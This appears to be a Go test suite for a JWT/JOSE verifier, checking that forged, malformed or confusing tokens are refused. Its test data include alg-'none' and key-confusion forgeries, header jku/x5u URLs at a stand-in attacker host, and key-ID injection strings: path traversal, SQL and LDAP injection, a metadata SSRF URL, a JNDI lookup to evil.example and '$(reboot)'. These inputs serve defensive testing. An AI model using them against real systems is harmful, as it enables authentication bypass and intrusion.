package jose

import (
	"crypto"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"hash"
	"strings"
	"testing"
)

// The tokens of this file carry a signature that is right, wherever one can be, so that only the
// rule in question can refuse them.

func TestJWT30_AlgorithmAllowList(t *testing.T) {
	s := newSigner(t, ES256)
	for _, alg := range []string{
		"none", "None", "NONE", "nOnE", "nonE", "", " ", "es256", "Es256", "ES256 ", " ES256", "ES256\\u0000",
		"rs256", "HS256", "HS384", "HS512", "RS384", "RS512", "PS384", "PS512", "ES384", "ES512", "ES256K",
		"RS1", "RSA1_5", "dir", "A256GCMKW", "ed25519", "eddsa", "EDDSA", "Ed448", "ML-DSA-44", "ES256,none",
	} {
		t.Run(alg, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"%s","kid":"k","typ":"at+jwt"}`, alg)
			refused(t, forge(t, s, h, testPayload), anyKid(s.PublicKey()), ErrAlgorithm)
			// And unsigned, as RFC 7515, Appendix A.5 has it: the empty third part is no part.
			refused(t, b64(h)+"."+b64(testPayload)+".", anyKid(s.PublicKey()), ErrMalformed)
			refused(t, b64(h)+"."+b64(testPayload), anyKid(s.PublicKey()), ErrMalformed)
		})
	}
	for name, h := range map[string]string{
		"missing": `{"kid":"k","typ":"at+jwt"}`,
		"null":    `{"alg":null,"kid":"k","typ":"at+jwt"}`,
	} {
		t.Run(name, func(t *testing.T) {
			refused(t, forge(t, s, h, testPayload), anyKid(s.PublicKey()), ErrAlgorithm)
		})
	}
	for name, h := range map[string]string{
		"array":  `{"alg":["ES256"],"kid":"k","typ":"at+jwt"}`,
		"number": `{"alg":256,"kid":"k","typ":"at+jwt"}`,
		"object": `{"alg":{"ES256":1},"kid":"k","typ":"at+jwt"}`,
	} {
		t.Run(name, func(t *testing.T) {
			refused(t, forge(t, s, h, testPayload), anyKid(s.PublicKey()), ErrHeader)
		})
	}
	t.Run("known but not allowed here", func(t *testing.T) {
		opts := accepting(s.PublicKey())
		opts.Algorithms = []Algorithm{RS256, Ed25519}
		refused(t, sign(t, s), opts, ErrAlgorithm)
	})
	t.Run("nothing allowed is a mistake of the caller, not of the token", func(t *testing.T) {
		for _, opts := range []VerifyOptions{
			{Types: []string{"at+jwt"}, Key: onlyKey(s.PublicKey())},
			{Algorithms: []Algorithm{ES256}, Key: onlyKey(s.PublicKey())},
			{Types: []string{"at+jwt"}, Algorithms: []Algorithm{ES256}},
		} {
			if _, _, err := Verify(sign(t, s), opts); err == nil {
				t.Errorf("accepted with options %+v", opts)
			}
		}
	})
}

// One key, one algorithm: the header chooses neither.
func TestJWT31_HeaderAlgorithmAgreesWithKey(t *testing.T) {
	signers := map[Algorithm]*Signer{}
	for _, alg := range []Algorithm{ES256, RS256, PS256, Ed25519} {
		signers[alg] = newSigner(t, alg)
	}
	for keyAlg, s := range signers {
		for _, named := range []Algorithm{ES256, RS256, PS256, Ed25519, EdDSA} {
			if named.Canonical() == keyAlg {
				continue
			}
			t.Run(fmt.Sprintf("%s naming a key for %s", named, keyAlg), func(t *testing.T) {
				h := Header{Algorithm: named, KeyID: s.KeyID(), Type: "at+jwt"}
				token := forge(t, s, string(h.appendJSON(nil)), testPayload)
				refused(t, token, accepting(s.PublicKey()), ErrAlgorithm)
			})
		}
	}
	t.Run("PS256 made with the RSA key of RS256", func(t *testing.T) {
		rs := signers[RS256]
		ps := signerFor(t, rs.key, PS256)
		refused(t, sign(t, ps), accepting(rs.PublicKey()), ErrAlgorithm)
	})
}

func TestJWT32_PublicKeyAsHMACSecret(t *testing.T) {
	for _, alg := range []Algorithm{RS256, ES256, Ed25519} {
		s := newSigner(t, alg)
		for form, secret := range publicForms(t, s.PublicKey()) {
			for name, newHash := range map[string]func() hash.Hash{
				"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New,
				// Named as the key's own algorithm, an HMAC is just a bad signature.
				string(alg): sha256.New,
			} {
				t.Run(fmt.Sprintf("%s over %s of %s", name, form, alg), func(t *testing.T) {
					h := fmt.Sprintf(`{"alg":%q,"kid":%q,"typ":"at+jwt"}`, name, s.KeyID())
					input := b64(h) + "." + b64(testPayload)
					mac := hmac.New(newHash, secret)
					mac.Write([]byte(input))
					token := input + "." + strictBase64.EncodeToString(mac.Sum(nil))
					want := ErrAlgorithm
					if name == string(alg) {
						want = ErrSignature
					}
					refused(t, token, accepting(s.PublicKey()), want)
				})
			}
		}
	}
	t.Run("a symmetric key in the set", func(t *testing.T) {
		set, err := ParseSet([]byte(`{"keys":[{"kty":"oct","alg":"HS256","kid":"k","k":"AAAA"}]}`))
		if err != nil || set.Len() != 0 || set.Skipped() != 1 {
			t.Fatalf("got %d keys, %d skipped, %v", set.Len(), set.Skipped(), err)
		}
	})
	t.Run("octets as a key", func(t *testing.T) {
		for _, raw := range []crypto.PublicKey{[]byte("secret"), "secret", nil} {
			if _, err := NewPublicKey("k", ES256, raw); err == nil {
				t.Errorf("%T taken for a public key", raw)
			}
		}
	})
}

// publicForms returns the texts that a careless verifier might use as a secret.
func publicForms(t *testing.T, k *PublicKey) map[string][]byte {
	der, err := x509.MarshalPKIXPublicKey(k.Raw())
	if err != nil {
		t.Fatal(err)
	}
	wire, err := k.JWK(k.Algorithm())
	if err != nil {
		t.Fatal(err)
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	return map[string][]byte{
		"DER": der, "PEM": text, "PEM without the last line feed": []byte(strings.TrimSpace(string(text))),
		"JWK": wire, "bare JWK": k.BareJWK(), "no octets": {},
	}
}

// The signature covers the octets as they came.
func TestJWT33_SignatureOverReceivedOctets(t *testing.T) {
	s := newSigner(t, ES256)
	parts := strings.Split(sign(t, s), ".")
	for name, token := range map[string]string{
		"claims changed":     parts[0] + "." + b64(strings.Replace(testPayload, "18", "19", 1)) + "." + parts[2],
		"claims re-encoded":  parts[0] + "." + b64(strings.Replace(testPayload, ":", ": ", 1)) + "." + parts[2],
		"header re-encoded":  b64(strings.Replace(header(s, ""), ":", ": ", 1)) + "." + parts[1] + "." + parts[2],
		"header reordered":   b64(fmt.Sprintf(`{"typ":"at+jwt","kid":%q,"alg":"ES256"}`, s.KeyID())) + "." + parts[1] + "." + parts[2],
		"typ in other case":  b64(strings.Replace(header(s, ""), "at+jwt", "AT+JWT", 1)) + "." + parts[1] + "." + parts[2],
		"parts swapped":      parts[0] + "." + b64("{}") + "." + parts[2],
		"signature of other": strings.Join(append(parts[:2:2], strings.Split(sign(t, newSigner(t, ES256)), ".")[2]), "."),
	} {
		t.Run(name, func(t *testing.T) {
			_, payload, err := Verify(token, accepting(s.PublicKey()))
			if err == nil || payload != nil {
				t.Fatalf("accepted: %q, %v", payload, err)
			}
		})
	}
	t.Run("payload is given out only when signed", func(t *testing.T) {
		refused(t, parts[0]+"."+b64(`{"sub":"admin"}`)+"."+parts[2], accepting(s.PublicKey()), ErrSignature)
	})
	t.Run("the payload's memory is its own", func(t *testing.T) {
		_, payload := accepted(t, strings.Join(parts, "."), accepting(s.PublicKey()))
		if cap(payload) != len(payload) {
			t.Errorf("appending to the payload would write over %d octets", cap(payload)-len(payload))
		}
	})
}

func TestJWT34_StrictBase64(t *testing.T) {
	s := newSigner(t, Ed25519)
	opts := accepting(s.PublicKey())
	good := sign(t, s)
	parts := strings.Split(good, ".")
	for i, part := range []string{"header", "payload", "signature"} {
		for name, change := range map[string]func(string) string{
			"padding =":      func(p string) string { return p + "=" },
			"padding ==":     func(p string) string { return p + "==" },
			"line feed":      func(p string) string { return p[:4] + "\n" + p[4:] },
			"CR LF":          func(p string) string { return p[:4] + "\r\n" + p[4:] },
			"trailing LF":    func(p string) string { return p + "\n" },
			"leading space":  func(p string) string { return " " + p },
			"tab":            func(p string) string { return p[:8] + "\t" + p[8:] },
			"plus":           func(p string) string { return p[:4] + "+" + p[5:] },
			"slash":          func(p string) string { return p[:4] + "/" + p[5:] },
			"percent":        func(p string) string { return p[:4] + "%41" + p[5:] },
			"NUL":            func(p string) string { return p[:4] + "\x00" + p[5:] },
			"high octet":     func(p string) string { return p[:4] + "\xff" + p[5:] },
			"full-width A":   func(p string) string { return p[:4] + "Ａ" + p[5:] },
			"missing a char": func(p string) string { return p + strings.Repeat("A", 5-len(p)%4) },
		} {
			t.Run(part+" "+name, func(t *testing.T) {
				changed := append([]string(nil), parts...)
				changed[i] = change(changed[i])
				input := changed[0] + "." + changed[1]
				// Signed again, so that it is not the signature that refuses it.
				token := input + "." + changed[2]
				if i < 2 {
					token = resign(t, s, input)
				}
				refused(t, token, opts, ErrMalformed)
			})
		}
	}
	t.Run("dangling bits", func(t *testing.T) {
		for i, part := range []string{"header", "payload", "signature"} {
			header, payload := header(s, ""), testPayload
			for len(header)%3 == 0 {
				header = header[:1] + " " + header[1:]
			}
			for len(payload)%3 == 0 {
				payload = payload[:1] + " " + payload[1:]
			}
			parts := strings.Split(forge(t, s, header, payload), ".")
			accepted(t, strings.Join(parts, "."), opts)
			parts[i] = dangle(t, parts[i])
			token := strings.Join(parts, ".")
			if i < 2 {
				token = resign(t, s, parts[0]+"."+parts[1])
			}
			t.Run(part, func(t *testing.T) { refused(t, token, opts, ErrMalformed) })
		}
	})
	t.Run("standard alphabet", func(t *testing.T) {
		payload := `{"x":"` + strings.Repeat("?>~", 40) + `"}`
		for i, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding} {
			text := enc.EncodeToString([]byte(payload + strings.Repeat(" ", (4-len(payload)%3)%3)))
			if !strings.ContainsAny(text, "+/=") {
				t.Fatalf("vector %d does not test anything: %s", i, text)
			}
			refused(t, resign(t, s, parts[0]+"."+text), opts, ErrMalformed)
		}
	})
}

// dangle sets the lowest of the bits that the last character has too many.
func dangle(t *testing.T, s string) string {
	t.Helper()
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(s)%4 == 0 {
		t.Fatal("no bits dangle")
	}
	last := strings.IndexByte(alphabet, s[len(s)-1])
	changed := s[:len(s)-1] + string(alphabet[last|1])
	lax, err := base64.RawURLEncoding.DecodeString(changed)
	if err != nil || strictBase64.EncodeToString(lax) != s {
		t.Fatal("not the same octets")
	}
	return changed
}

// The serialisations of RFC 7515, Section 7.2 let an unsigned outer object stand beside a good
// signature: a reader of claims that looks at the outer object is told anything.
func TestJWT35_JSONSerialisationRefused(t *testing.T) {
	s := newSigner(t, ES256)
	p := strings.Split(sign(t, s), ".")
	for name, token := range map[string]string{
		"flattened": fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, p[1], p[0], p[2]),
		"general":   fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, p[1], p[0], p[2]),
		"claim swap": fmt.Sprintf(`{"sub":"admin","exp":9999999999,"payload":%q,"protected":%q,"signature":%q}`,
			p[1], p[0], p[2]),
		"leading space":   " " + strings.Join(p, "."),
		"trailing LF":     strings.Join(p, ".") + "\n",
		"quoted":          `"` + strings.Join(p, ".") + `"`,
		"Bearer":          "Bearer " + strings.Join(p, "."),
		"byte order mark": "\ufeff" + strings.Join(p, "."),
	} {
		t.Run(name, func(t *testing.T) { refused(t, token, anyKid(s.PublicKey()), ErrMalformed) })
	}
}

func TestJWT36_ExactlyThreeParts(t *testing.T) {
	s := newSigner(t, ES256)
	p := strings.Split(sign(t, s), ".")
	for name, token := range map[string]string{
		"nothing":         "",
		"one":             p[0],
		"two":             p[0] + "." + p[1],
		"two and a dot":   p[0] + "." + p[1] + ".",
		"four":            strings.Join(p, ".") + "." + p[2],
		"trailing dot":    strings.Join(p, ".") + ".",
		"leading dot":     "." + strings.Join(p, "."),
		"five":            strings.Join(p, ".") + "." + p[1] + "." + p[2],
		"dots":            "..",
		"four dots":       "....",
		"empty header":    "." + p[1] + "." + p[2],
		"empty payload":   resign(t, s, p[0]+"."),
		"detached":        p[0] + ".." + p[2],
		"double dot":      p[0] + ".." + p[1] + "." + p[2],
		"only the header": p[0] + "..",
	} {
		t.Run(name, func(t *testing.T) { refused(t, token, anyKid(s.PublicKey()), ErrMalformed) })
	}
	t.Run("a JWE of ours", func(t *testing.T) {
		sealed, err := Seal(NewKEK([32]byte{1}), nil, []byte("x"))
		if err != nil {
			t.Fatal(err)
		}
		refused(t, sealed, anyKid(s.PublicKey()), ErrMalformed)
	})
}

// JWT-05, JWT-37, JWT-38, JWT-49: what is not alg, kid, typ is refused, whether we know it or not,
// and nothing is fetched, since nothing here can fetch.
func TestJWT05_HeaderMembers(t *testing.T) {
	s := newSigner(t, ES256)
	opts := accepting(s.PublicKey())
	evil, err := newSigner(t, ES256).PublicKey().JWK(ES256)
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]string{
		"JWT-37 crit unknown":          `,"crit":["exp"],"exp":1`,
		"JWT-37 crit empty":            `,"crit":[]`,
		"JWT-37 crit registered":       `,"crit":["alg"]`,
		"JWT-37 crit null":             `,"crit":null`,
		"JWT-37 crit naming nothing":   `,"crit":["nothing"]`,
		"JWT-38 b64 false":             `,"b64":false`,
		"JWT-38 b64 true":              `,"b64":true`,
		"JWT-38 b64 false in crit":     `,"b64":false,"crit":["b64"]`,
		"JWT-49 jwk":                   `,"jwk":` + string(evil),
		"JWT-49 jku":                   `,"jku":"https://evil.example/jwks.json"`,
		"JWT-49 x5u":                   `,"x5u":"https://evil.example/cert.pem"`,
		"JWT-49 x5c":                   `,"x5c":["MIIB"]`,
		"JWT-49 x5t":                   `,"x5t":"AAAA"`,
		"JWT-49 x5t#S256":              `,"x5t#S256":"AAAA"`,
		"JWT-05 zip":                   `,"zip":"DEF"`,
		"JWT-05 cty":                   `,"cty":"JWT"`,
		"JWT-05 enc":                   `,"enc":"A256GCM"`,
		"JWT-05 epk":                   `,"epk":{}`,
		"JWT-05 p2c":                   `,"p2c":1000000000`,
		"JWT-05 iss":                   `,"iss":"https://as.example"`,
		"JWT-05 unknown":               `,"x":1`,
		"JWT-05 empty name":            `,"":1`,
		"JWT-42 alg twice":             `,"alg":"ES256"`,
		"JWT-42 kid twice":             `,"kid":"` + s.KeyID() + `"`,
		"JWT-42 alg twice by escape":   `,"\u0061lg":"ES256"`,
		"JWT-42 alg in another case":   `,"ALG":"ES256"`,
		"JWT-42 kid in another case":   `,"Kid":"k"`,
		"JWT-42 Kelvin sign":           `,"` + "\u212a" + `id":"k"`,
		"JWT-42 member of a member":    `,"x":{"a":1,"a":2}`,
		"JWT-42 trailing comma":        `,`,
		"JWT-42 second value":          `}{"alg":"none"`,
		"JWT-42 comment":               `/* */`,
		"JWT-42 invalid UTF-8":         ",\"x\":\"\xff\"",
		"JWT-42 unpaired surrogate":    `,"x":"\ud800"`,
		"JWT-42 raw control character": ",\"x\":\"\x01\"",
	}
	for name, members := range rows {
		t.Run(name, func(t *testing.T) {
			refused(t, forge(t, s, header(s, members), testPayload), opts, ErrHeader)
		})
	}
	good := header(s, "")
	for name, h := range map[string]string{
		"JWT-42 byte order mark": "\ufeff" + good,
		"JWT-42 trailing NUL":    good + "\x00",
		"JWT-42 trailing text":   good + "x",
		"JWT-42 array":           "[" + good + "]",
		"JWT-42 string":          `"ES256"`,
		"JWT-42 number":          "1",
		"JWT-42 null":            "null",
		"JWT-42 nothing":         "   ",
		"JWT-42 single quotes":   strings.ReplaceAll(good, `"`, `'`),
		"JWT-42 UTF-16":          "{\x00\"\x00a\x00l\x00g\x00",
		"JWT-42 names in capitals": strings.NewReplacer("alg", "ALG", "kid", "KID", "typ", "TYP").
			Replace(good),
	} {
		t.Run(name, func(t *testing.T) { refused(t, forge(t, s, h, testPayload), opts, ErrHeader) })
	}
	t.Run("whitespace, order and escapes are free", func(t *testing.T) {
		h := fmt.Sprintf("\r\n { \"typ\" : \"at\\u002bjwt\",\t\"kid\":%q, \"alg\":\"ES256\" } \n", s.KeyID())
		got, _ := accepted(t, forge(t, s, h, testPayload), opts)
		if want := (Header{ES256, s.KeyID(), "at+jwt"}); got != want {
			t.Errorf("got %v, want %v", got, want)
		}
	})
}

func TestJWT44_TypeComparison(t *testing.T) {
	s := newSigner(t, ES256)
	type row struct {
		typ    string
		accept bool
	}
	for _, r := range []row{
		{"at+jwt", true}, {"AT+JWT", true}, {"At+Jwt", true}, {"application/at+jwt", true}, {"APPLICATION/AT+JWT", true},
		{"JWT", false}, {"jwt", false}, {"", false}, {"at+jwt ", false}, {" at+jwt", false}, {"at jwt", false},
		{"application/", false}, {"application/application/at+jwt", false}, {"application//at+jwt", false},
		{"text/at+jwt", false}, {"/at+jwt", false}, {"at+jwt;v=1", false}, {"at+jwt/x", false}, {"at", false},
		{"dpop+jwt", false}, {"secevent+jwt", false}, {"token-introspection+jwt", false}, {"client-authentication+jwt", false},
		{"at+ＪＷＴ", false}, {strings.Repeat("a", maxTypeLength+1), false},
	} {
		t.Run(r.typ, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":%q}`, s.KeyID(), r.typ)
			token := forge(t, s, h, testPayload)
			if !r.accept {
				refused(t, token, accepting(s.PublicKey()), ErrType)
				return
			}
			if got, _ := accepted(t, token, accepting(s.PublicKey())); got.Type != r.typ {
				t.Errorf("got type %q, want it as written, %q", got.Type, r.typ)
			}
		})
	}
	for name, member := range map[string]string{"missing": "", "null": `,"typ":null`} {
		t.Run(name, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q%s}`, s.KeyID(), member)
			refused(t, forge(t, s, h, testPayload), accepting(s.PublicKey()), ErrType)
		})
	}
	t.Run("a letter is folded only in ASCII", func(t *testing.T) {
		opts := accepting(s.PublicKey())
		opts.Types = []string{"secevent+jwt", "key+jwt"}
		for _, typ := range []string{"ſecevent+jwt", "\u212aey+jwt"} {
			if !strings.EqualFold(typ, "secevent+jwt") && !strings.EqualFold(typ, "key+jwt") {
				t.Fatal("vector does not test anything")
			}
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":"%s"}`, s.KeyID(), typ)
			refused(t, forge(t, s, h, testPayload), opts, ErrType)
		}
	})
	t.Run("an allowed type may be written in full", func(t *testing.T) {
		opts := accepting(s.PublicKey())
		opts.Types = []string{"JWT", "application/AT+jwt"}
		accepted(t, sign(t, s), opts)
	})
}

// kid chooses a key out of one issuer's set and does nothing else. (JWT-46 as far as the kernel goes:
// it never sees a key of another issuer.)
func TestJWT48_HostileKeyID(t *testing.T) {
	s := newSigner(t, ES256)
	asked := ""
	opts := accepting(s.PublicKey())
	opts.Key = func(h Header) (*PublicKey, error) {
		asked = h.KeyID
		return nil, ErrUnknownKey
	}
	for name, kid := range map[string]string{
		"path": "../../etc/passwd", "sql": "x' OR '1'='1", "ldap": "*)(uid=*))(|(uid=*", "url": "http://169.254.169.254/",
		"template": "${jndi:ldap://evil.example/a}", "shell": "$(reboot)", "another key's": "k2", "space": "a b",
		"longest": strings.Repeat("k", MaxKeyIDLength),
	} {
		t.Run("looked up and unknown: "+name, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":"at+jwt"}`, kid)
			refused(t, forge(t, s, h, testPayload), opts, ErrUnknownKey)
			if asked != kid {
				t.Errorf("asked for %q, want %q", asked, kid)
			}
		})
	}
	opts.Key = func(h Header) (*PublicKey, error) {
		t.Errorf("asked for the kid %q", h.KeyID)
		return s.PublicKey(), nil
	}
	for name, kid := range map[string]string{
		"line feed": `a\nlevel=error`, "carriage return": `a\rb`, "NUL": `a\u0000b`, "escape sequence": `\u001b[2J`,
		"quote": `a\"b`, "backslash": `a\\b`, "not ASCII": "schlüssel", "right-to-left": "a\u202eb", "empty": "",
		"too long": strings.Repeat("k", MaxKeyIDLength+1), "DEL": `a\u007f`, "line separator": `a\u2028b`,
	} {
		t.Run("never looked up: "+name, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":"%s","typ":"at+jwt"}`, kid)
			refused(t, forge(t, s, h, testPayload), opts, ErrHeader)
		})
	}
	for name, h := range map[string]string{
		"missing": `{"alg":"ES256","typ":"at+jwt"}`, "null": `{"alg":"ES256","typ":"at+jwt","kid":null}`,
		"number": `{"alg":"ES256","typ":"at+jwt","kid":1}`, "array": `{"alg":"ES256","typ":"at+jwt","kid":["k"]}`,
		"object": `{"alg":"ES256","typ":"at+jwt","kid":{"$ne":""}}`,
	} {
		t.Run("never looked up: "+name, func(t *testing.T) {
			refused(t, forge(t, s, h, testPayload), opts, ErrHeader)
		})
	}
	t.Run("never looked up: 1 MB", func(t *testing.T) {
		h := fmt.Sprintf(`{"alg":"ES256","kid":"%s","typ":"at+jwt"}`, strings.Repeat("k", 1<<20))
		refused(t, forge(t, s, h, testPayload), opts, ErrMalformed)
	})
	t.Run("never looked up: a header that fills the token", func(t *testing.T) {
		h := fmt.Sprintf(`{"alg":"ES256","kid":"%s","typ":"at+jwt"}`, strings.Repeat("k", 8<<10))
		refused(t, forge(t, s, h, testPayload), opts, ErrMalformed)
	})
}
